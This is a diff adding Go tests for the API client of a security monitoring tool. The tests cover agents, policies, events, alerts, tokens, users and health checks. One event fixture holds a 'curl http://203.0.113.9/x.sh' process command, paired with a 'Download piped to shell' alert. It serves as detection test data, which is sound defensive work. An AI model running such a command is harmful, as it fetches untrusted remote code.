@@ -1,0 +1,241 @@
+package apiclient_test
+
+import (
+	"context"
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/vigilsec/vigil/internal/apiclient"
+	"github.com/vigilsec/vigil/internal/apiclient/apiclienttest"
+	"github.com/vigilsec/vigil/internal/center/command"
+	"github.com/vigilsec/vigil/internal/event"
+	"github.com/vigilsec/vigil/internal/store"
+)
+
+var t0 = time.Date(2025, 3, 4, 10, 0, 0, 0, time.UTC)
+
+// seeded returns a client with admin rights on a center holding two agents.
+func seeded(t *testing.T) (*apiclient.Client, *apiclienttest.Center) {
+	t.Helper()
+	center := apiclienttest.New(func() time.Time { return t0 })
+	center.AddBearer("admin", "admin", store.RoleAdmin)
+	center.AddAgent(store.Agent{ID: "a1", Hostname: "web-1", Status: store.StatusOnline, Labels: map[string]string{"env": "prod"},
+		LastState: []byte(`{"spool_dropped_total":0}`)})
+	center.AddAgent(store.Agent{ID: "a2", Hostname: "db-1", Status: store.StatusLost, Labels: map[string]string{"env": "prod", "role": "db"}})
+	c, _ := newTLS(t, center, "admin")
+	return c, center
+}
+
+func TestAgentRoutes(t *testing.T) {
+	c, center := seeded(t)
+	ctx := context.Background()
+
+	page, err := c.Agents(ctx, store.AgentFilter{Status: store.StatusLost, Labels: map[string]string{"role": "db", "env": "prod"}, Q: "db"})
+	if err != nil || len(page.Items) != 1 || page.Items[0].ID != "a2" {
+		t.Fatalf("Agents = %+v, %v", page, err)
+	}
+	reqs := center.Requests()
+	if want := "GET /api/v1/agents?label=env%3Dprod&label=role%3Ddb&q=db&status=lost"; reqs[len(reqs)-1] != want {
+		t.Errorf("request %q, want %q", reqs[len(reqs)-1], want)
+	}
+
+	a, err := c.Agent(ctx, "a1")
+	if err != nil || string(a.LastState) != `{"spool_dropped_total":0}` || a.Hostname != "web-1" {
+		t.Fatalf("Agent = %+v, %v", a, err)
+	}
+	a, err = c.SetAgentLabels(ctx, "a1", map[string]string{"env": "test"})
+	if err != nil || !cmp.Equal(a.Labels, map[string]string{"env": "test"}) {
+		t.Fatalf("SetAgentLabels = %+v, %v", a, err)
+	}
+	center.AddHistory(store.StatusChange{AgentID: "a1", At: t0, From: store.StatusLost, To: store.StatusOnline, Reason: "connected"})
+	hist, err := c.AgentHistory(ctx, "a1", store.Page{Limit: 5})
+	if err != nil || len(hist.Items) != 1 || hist.Items[0].Reason != "connected" {
+		t.Fatalf("AgentHistory = %+v, %v", hist, err)
+	}
+
+	center.AddPolicy(store.AgentPolicy{Name: "test", Selector: map[string]string{"env": "test"}, Revision: 3,
+		Spec: json.RawMessage(`{"heartbeatIntervalSeconds":"5","spoolMaxMb":"512"}`)})
+	pol, err := c.EffectivePolicy(ctx, "a1")
+	if err != nil || pol.GetName() != "test" || pol.GetRevision() != 3 || pol.GetHeartbeatIntervalSeconds() != 5 || pol.GetSpoolMaxMb() != 512 {
+		t.Fatalf("EffectivePolicy = %v, %v", pol, err)
+	}
+
+	resp, err := c.Exec(ctx, command.Request{Name: command.Ping, Selector: map[string]string{"env": "prod"}, Timeout: 3 * time.Second})
+	if err != nil || resp.Command != "ping" || len(resp.Results) != 1 || resp.Results[0].AgentID != "a2" || resp.Results[0].OK {
+		t.Fatalf("Exec = %+v, %v", resp, err)
+	}
+	resp, err = c.Exec(ctx, command.Request{Name: command.Status, AgentIDs: []string{"a1"}})
+	if err != nil || !resp.Results[0].OK || !strings.Contains(string(resp.Results[0].Output), "web-1") {
+		t.Fatalf("Exec = %+v, %v", resp, err)
+	}
+
+	if err := c.DeleteAgent(ctx, "a2"); err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := center.Agent("a2"); ok {
+		t.Error("a2 still stored after DeleteAgent")
+	}
+	if _, err := c.Agent(ctx, "a2"); !apiclient.IsStatus(err, 404) {
+		t.Errorf("Agent(a2) after delete: %v", err)
+	}
+}
+
+func TestPolicyRoutes(t *testing.T) {
+	c, _ := seeded(t)
+	ctx := context.Background()
+	put := store.AgentPolicy{Name: "prod", Selector: map[string]string{"env": "prod"}, Priority: 10, Spec: json.RawMessage(`{"spoolMaxMb":"512"}`)}
+	stored, err := c.PutAgentPolicy(ctx, put)
+	if err != nil || stored.Revision != 1 || stored.Priority != 10 || stored.UpdatedBy != "token:admin" {
+		t.Fatalf("PutAgentPolicy = %+v, %v", stored, err)
+	}
+	if stored, err = c.PutAgentPolicy(ctx, put); err != nil || stored.Revision != 2 {
+		t.Fatalf("second PutAgentPolicy = %+v, %v", stored, err)
+	}
+	got, err := c.AgentPolicy(ctx, "prod")
+	if err != nil || string(got.Spec) != `{"spoolMaxMb":"512"}` {
+		t.Fatalf("AgentPolicy = %+v, %v", got, err)
+	}
+	list, err := c.AgentPolicies(ctx, store.Page{})
+	if err != nil || len(list.Items) != 1 {
+		t.Fatalf("AgentPolicies = %+v, %v", list, err)
+	}
+	if err := c.DeleteAgentPolicy(ctx, "prod"); err != nil {
+		t.Fatal(err)
+	}
+	if err := c.DeleteAgentPolicy(ctx, "prod"); !apiclient.IsStatus(err, 404) {
+		t.Errorf("second delete: %v", err)
+	}
+}
+
+func TestEventAndAlertRoutes(t *testing.T) {
+	c, center := seeded(t)
+	ctx := context.Background()
+	e1 := event.New("e1", t0.Add(time.Second), "process", "start")
+	e1.Set(event.FieldAgentID, "a1")
+	e1.Set(event.FieldProcessCmd, "curl http://203.0.113.9/x.sh")
+	e1.Set("process.pid", 9007199254740993) // above 2^53: must survive
+	e2 := event.New("e2", t0.Add(2*time.Second), "network", "connect")
+	e2.Set(event.FieldAgentID, "a2")
+	center.AddEvents(e1, e2)
+
+	page, err := c.Events(ctx, store.EventFilter{Since: t0, Q: "CURL", Ascending: true})
+	if err != nil || len(page.Items) != 1 || page.Items[0].ID() != "e1" || page.NextCursor == "" {
+		t.Fatalf("Events = %+v, %v", page, err)
+	}
+	if pid := page.Items[0].String("process.pid"); pid != "9007199254740993" {
+		t.Errorf("process.pid = %q", pid)
+	}
+	next, err := c.Events(ctx, store.EventFilter{Since: t0, Q: "CURL", Ascending: true, Page: store.Page{Cursor: page.NextCursor}})
+	if err != nil || len(next.Items) != 0 {
+		t.Fatalf("page after the newest = %+v, %v", next, err)
+	}
+	reqs := center.Requests()
+	if want := "GET /api/v1/events?order=asc&q=CURL&since=2025-03-04T10%3A00%3A00Z"; reqs[len(reqs)-2] != want {
+		t.Errorf("request %q, want %q", reqs[len(reqs)-2], want)
+	}
+
+	center.AddAlert(store.Alert{ID: "al1", AgentID: "a1", RuleID: "r1", Title: "Download piped to shell", Severity: store.SeverityHigh, State: store.AlertNew})
+	alerts, err := c.Alerts(ctx, store.AlertFilter{Severity: store.SeverityHigh, AgentID: "a1", RuleID: "r1", State: store.AlertNew})
+	if err != nil || len(alerts.Items) != 1 {
+		t.Fatalf("Alerts = %+v, %v", alerts, err)
+	}
+	al, err := c.SetAlertState(ctx, "al1", store.AlertAcknowledged, "looking")
+	if err != nil || al.State != store.AlertAcknowledged || len(al.Comments) != 1 || al.Comments[0].Text != "looking" {
+		t.Fatalf("SetAlertState = %+v, %v", al, err)
+	}
+	if al, err = c.Alert(ctx, "al1"); err != nil || al.State != store.AlertAcknowledged {
+		t.Fatalf("Alert = %+v, %v", al, err)
+	}
+
+	center.AddAudit(store.AuditEntry{At: t0, Actor: "alice", Action: "agent.delete", Result: "ok"})
+	audit, err := c.Audit(ctx, store.AuditFilter{Action: "agent.", Since: t0.Add(-time.Hour)})
+	if err != nil || len(audit.Items) != 1 || audit.Items[0].Actor != "alice" {
+		t.Fatalf("Audit = %+v, %v", audit, err)
+	}
+}
+
+func TestTokenAndUserRoutes(t *testing.T) {
+	c, center := seeded(t)
+	ctx := context.Background()
+	jt, err := c.CreateJoinToken(ctx, apiclient.JoinTokenRequest{TTL: 2 * time.Hour, Labels: map[string]string{"site": "sh"}, UsageLimit: 5, Description: "lab"})
+	if err != nil || !strings.HasPrefix(jt.Token, "vgl1.") || !jt.ExpiresAt.Equal(t0.Add(2*time.Hour)) || jt.UsageLimit != 5 {
+		t.Fatalf("CreateJoinToken = %+v, %v", jt, err)
+	}
+	jts, err := c.JoinTokens(ctx, store.Page{})
+	if err != nil || len(jts.Items) != 1 || jts.Items[0].Labels["site"] != "sh" {
+		t.Fatalf("JoinTokens = %+v, %v", jts, err)
+	}
+	if err := c.DeleteJoinToken(ctx, jt.ID); err != nil {
+		t.Fatal(err)
+	}
+
+	at, err := c.CreateAPIToken(ctx, apiclient.APITokenRequest{Name: "ci", Role: store.RoleViewer, TTL: time.Hour})
+	if err != nil || at.Token == "" || at.Role != store.RoleViewer || !at.ExpiresAt.Equal(t0.Add(time.Hour)) {
+		t.Fatalf("CreateAPIToken = %+v, %v", at, err)
+	}
+	me, err := c.WithToken(at.Token).Me(ctx)
+	if err != nil || me != (apiclient.Identity{Name: "ci", Role: store.RoleViewer, Kind: "api"}) {
+		t.Fatalf("Me with the new token = %+v, %v", me, err)
+	}
+	ats, err := c.APITokens(ctx, store.Page{})
+	if err != nil || len(ats.Items) != 1 {
+		t.Fatalf("APITokens = %+v, %v", ats, err)
+	}
+	if err := c.DeleteAPIToken(ctx, at.ID); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.WithToken(at.Token).Me(ctx); !apiclient.IsStatus(err, 401) {
+		t.Errorf("Me with a deleted token: %v", err)
+	}
+
+	u, err := c.CreateUser(ctx, apiclient.NewUser{Name: "alice", Password: "correct horse", Role: store.RoleAnalyst})
+	if err != nil || u.Name != "alice" {
+		t.Fatalf("CreateUser = %+v, %v", u, err)
+	}
+	sess, err := c.Login(ctx, "alice", "correct horse")
+	if err != nil || sess.User.ID != u.ID || sess.Token == "" {
+		t.Fatalf("Login = %+v, %v", sess, err)
+	}
+	as := c.WithToken(sess.Token)
+	if me, err := as.Me(ctx); err != nil || me.Kind != "session" || me.Role != store.RoleAnalyst {
+		t.Fatalf("Me as alice = %+v, %v", me, err)
+	}
+	if err := as.Logout(ctx); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := as.Me(ctx); !apiclient.IsStatus(err, 401) {
+		t.Errorf("Me after logout: %v", err)
+	}
+	role, disabled, pw := store.RoleResponder, true, "another secret"
+	u, err = c.UpdateUser(ctx, u.ID, apiclient.UserUpdate{Role: &role, Disabled: &disabled, Password: &pw})
+	if err != nil || u.Role != role || !u.Disabled || center.Password(u.ID) != pw {
+		t.Fatalf("UpdateUser = %+v, %v", u, err)
+	}
+	if got, err := c.User(ctx, u.ID); err != nil || got.Role != role {
+		t.Fatalf("User = %+v, %v", got, err)
+	}
+	users, err := c.Users(ctx, store.Page{})
+	if err != nil || len(users.Items) != 1 {
+		t.Fatalf("Users = %+v, %v", users, err)
+	}
+	if err := c.DeleteUser(ctx, u.ID); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestHealthz(t *testing.T) {
+	c, center := seeded(t)
+	ctx := context.Background()
+	if err := c.WithToken("").Healthz(ctx); err != nil {
+		t.Fatal(err)
+	}
+	center.SetUnhealthy("store does not answer")
+	err := c.Healthz(ctx)
+	if !apiclient.IsStatus(err, 503) || err.Error() != "store does not answer (503 unavailable)" {
+		t.Errorf("unhealthy: %v", err)
+	}
+}
